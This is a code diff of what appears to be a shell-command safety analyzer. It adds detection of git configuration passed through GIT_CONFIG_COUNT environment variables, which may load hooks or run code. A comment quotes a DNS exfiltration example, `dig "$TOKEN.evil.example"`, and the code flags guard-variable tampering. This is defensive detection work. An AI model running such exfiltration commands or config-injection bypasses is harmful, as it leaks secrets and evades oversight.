@@ -307,12 +307,16 @@ class _Command:
 
     def keyval(self, w: Word) -> None:
         key, eq, value = w.value.partition("=")
-        if not eq or self.view is None:
-            return
-        for glob, role in self.view["keys"].get(w.option or "operands", {}).items():
+        role = self.key_role(w.option, key) if eq else None
+        if role:
+            self.role(_word(role, value, w))
+
+    def key_role(self, option: str | None, key: str) -> str | None:
+        """The role a `keyval` option's KEY gives its VALUE ([X.keys.OPTION])."""
+        for glob, role in (self.view or {}).get("keys", {}).get(option or "operands", {}).items():
             if wildcard_match(glob, key.lower()):
-                self.role(_word(role, value, w))
-                return
+                return str(role)
+        return None
 
     def contact(self, w: Word) -> None:
         for name in _variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
@@ -610,6 +614,9 @@ def _env_role(roles: dict[str, str], name: str) -> str | None:
 
 def _env(c: _Command, env: dict[str, str]) -> None:
     view = c.view
+    config = view.get("env_config") if view else None
+    if config and config["count"] in env:
+        _env_config(c, env, config)
     for name, value in env.items():
         if name.startswith("GUARD_"):
             c.add("env", f"sets {name} for the commands it runs", "self-tamper", ())
@@ -618,6 +625,24 @@ def _env(c: _Command, env: dict[str, str]) -> None:
             from ..grammar.scan import Word
 
             c.role(Word(role, value, 0, name))
+
+
+def _env_config(c: _Command, env: dict[str, str], config: dict[str, str]) -> None:
+    """`GIT_CONFIG_COUNT=N` with `GIT_CONFIG_KEY_<n>`/`_VALUE_<n>`: each pair is read as the
+    program's `-c KEY=VALUE`; a pair the line does not show may be any configuration."""
+    from ..grammar.scan import Word
+
+    count = env[config["count"]]
+    for n in range(min(int(count), 64) if count.isdigit() else 0):
+        key, value = env.get(f"{config['key']}{n}"), env.get(f"{config['value']}{n}")
+        if key is None or value is None:
+            what = f"{config['key']}{n} / {config['value']}{n} unknown here: any configuration"
+            c.add("run", what, "unknown-code", ())
+        elif c.key_role(config["option"], key) in ("config", "dir"):
+            # More configuration or a directory of hooks and templates: code it may run.
+            c.add("run", f"{key}={value} loads configuration that may run code", "unknown-code", ())
+        else:
+            c.role(Word("keyval", f"{key}={value}", 0, config["option"]))
 
 
 def resolve(
